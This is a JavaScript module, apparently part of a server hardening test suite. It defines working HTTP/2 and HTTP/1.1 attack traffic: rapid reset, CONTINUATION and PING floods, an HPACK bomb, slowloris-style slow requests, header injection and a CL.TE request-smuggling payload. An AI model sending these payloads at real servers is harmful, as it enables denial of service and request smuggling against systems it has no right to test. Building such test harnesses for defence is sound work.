import {
  block,
  continuation,
  data,
  Flag,
  frame,
  headers,
  openHeaders,
  ping,
  PREFACE,
  priority,
  reset,
  settings,
  Setting,
  settingsAck,
  Type,
  windowUpdate,
} from "../../conformance/h2/frames.mjs";

/**
 * What attackers send, by the classes of docs/hardening.md. `start` is written when a connection opens; `more(i)`, called
 * for 0, 1, 2, …, again and again as fast as the socket takes it, or every `everyMs`. A connection that ends is opened anew.
 */

const START = Buffer.concat([PREFACE, settings(), settingsAck()]);
const ROOT = [
  [":method", "GET"],
  [":scheme", "http"],
  [":path", "/"],
  [":authority", "origin:80"],
];
const GET = block(ROOT);
const LARGE = block(ROOT.map(([name, value]) => [name, name === ":path" ? "/large" : value]));
const POST = block(ROOT.map(([name, value]) => [name, name === ":method" ? "POST" : value]));
const id = (i) => 2 * i + 1;
const many = (count, make) => Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));

/** So many of a frame at a time: an attacker does not pay for each. */
const batch = (make, size = 64) => ({ more: (i) => many(size, (k) => make(i * size + k)) });
/** One connection after the other. */
const once = (...frames) => ({ start: Buffer.concat([START, ...frames]), churn: true });
const http2 = (attack) => ({ start: START, connections: 4, ...attack });

const SMALL_WINDOW = settings(Setting.INITIAL_WINDOW_SIZE, 0);
/** One entry of HPACK's dynamic table, then a thousand references of a byte each. */
const BOMB = Buffer.concat([
  GET,
  Buffer.from([0x40, 1, 0x61, 0x7f, 0x81, 0x1e]),
  Buffer.alloc(4000, "b"),
  Buffer.alloc(2000, 0xbe),
]);

export const HTTP2_ATTACKS = {
  "H2-01 rapid reset": http2(batch((i) => Buffer.concat([headers(id(i), GET), reset(id(i), 8)]))),
  "H2-02 made to reset": http2(batch((i) => Buffer.concat([headers(id(i), GET), windowUpdate(id(i), 0)]))),
  "H2-03 CONTINUATION": http2({
    start: Buffer.concat([START, headers(1, GET, Flag.END_STREAM)]),
    more: () => continuation(1, Buffer.alloc(16_000, 0x1f), 0),
  }),
  "H2-04 empty DATA": http2({
    ...batch(() => data(1, "", 0)),
    start: Buffer.concat([START, openHeaders(1, POST)]),
  }),
  "H2-04 empty CONTINUATION": http2({
    ...batch(() => continuation(1, "", 0)),
    start: Buffer.concat([START, headers(1, GET, 0)]),
  }),
  "H2-05 HPACK bomb, held": http2({
    ...batch((i) => headers(id(i), BOMB), 8),
    start: Buffer.concat([START, SMALL_WINDOW]),
    deaf: true,
  }),
  "H2-06 PING, not read": http2({ ...batch((i) => ping(String(i).padStart(8, "0"))), deaf: true }),
  "H2-06 SETTINGS, not read": http2({ ...batch(() => settings()), deaf: true }),
  "H2-07 errors, not read": http2({ ...batch((i) => headers(id(i), block([["x", "y"]]))), deaf: true }),
  "H2-08 large bodies, not read": http2({
    start: Buffer.concat([
      START,
      settings(Setting.INITIAL_WINDOW_SIZE, 0x7fff_ffff),
      windowUpdate(0, 0x7fff_0000),
      many(90, (i) => headers(id(i), LARGE)),
    ]),
    deaf: true,
    connections: 2,
  }),
  "H2-08 windows of a byte": http2({
    start: Buffer.concat([START, SMALL_WINDOW, many(90, (i) => headers(id(i), LARGE))]),
    more: () => many(90, (i) => windowUpdate(id(i), 1)),
    connections: 2,
  }),
  "H2-09 PRIORITY": http2(batch((i) => priority(id(i % 1000), id((i + 1) % 1000)), 256)),
  "H2-10 empty names": http2(batch((i) => headers(id(i), Buffer.concat([GET, block([["", ""]])])))),
  "H2-11 windows": http2(once(windowUpdate(0, 0x7fff_ffff), windowUpdate(0, 0x7fff_ffff))),
  "H2-13 stream numbers": http2(once(headers(5, GET), headers(3, GET))),
  "H2-14 frame sizes": http2(once(frame(Type.SETTINGS, 0, 0, "12345"))),
  "H2-15 broken HPACK": http2(once(headers(1, Buffer.of(0x80)))),
  "H2-16 malformed heads": http2(
    batch((i) => headers(id(i), Buffer.concat([GET, block([["connection", "x"]])]))),
  ),
  "H2-17 connections, silent": { start: PREFACE, connections: 2000 },
  "H2-18 a frame that dribbles": {
    start: Buffer.concat([START, headers(1, Buffer.alloc(16_384)).subarray(0, 9)]),
    more: () => Buffer.of(0x1f),
    everyMs: 500,
    connections: 1000,
  },
  "D-01 injected line ends": http2(
    batch((i) => headers(id(i), Buffer.concat([GET, block([["x", "a\r\nTransfer-Encoding: chunked"]])]))),
  ),
};

const HEAD = "GET / HTTP/1.1\r\nHost: origin:80\r\n";
const CHUNKED = "POST / HTTP/1.1\r\nHost: origin:80\r\nTransfer-Encoding: chunked\r\n\r\n";

export const HTTP1_ATTACKS = {
  "H1-28 slow heads": { start: HEAD, more: (i) => `X-${i}: y\r\n`, everyMs: 1000, connections: 2000 },
  "H1-28 slow bodies": {
    start: "POST / HTTP/1.1\r\nHost: origin:80\r\nContent-Length: 1000000\r\n\r\n",
    more: () => "x",
    everyMs: 1000,
    connections: 500,
  },
  "H1-28 slow readers": {
    start: "GET /large HTTP/1.1\r\nHost: origin:80\r\n\r\n",
    deaf: true,
    connections: 200,
  },
  "large heads": { start: HEAD + `X: ${"y".repeat(70_000)}\r\n\r\n`, churn: true, connections: 4 },
  "many fields": { start: HEAD + "X: y\r\n".repeat(1000) + "\r\n", churn: true, connections: 4 },
  "H1-10 broken chunks": { start: `${CHUNKED}zz\r\n`, churn: true, connections: 4 },
  "H1-13 chunks of a byte": {
    start: CHUNKED,
    more: () => `1;a=${"b".repeat(200)}\r\nx\r\n`.repeat(64),
    connections: 4,
  },
  "H1-01 CL.TE": {
    start:
      "POST / HTTP/1.1\r\nHost: origin:80\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
    churn: true,
    connections: 4,
  },
  "H1-25 pipelining": { more: () => `${HEAD}\r\n`.repeat(64), connections: 4 },
};
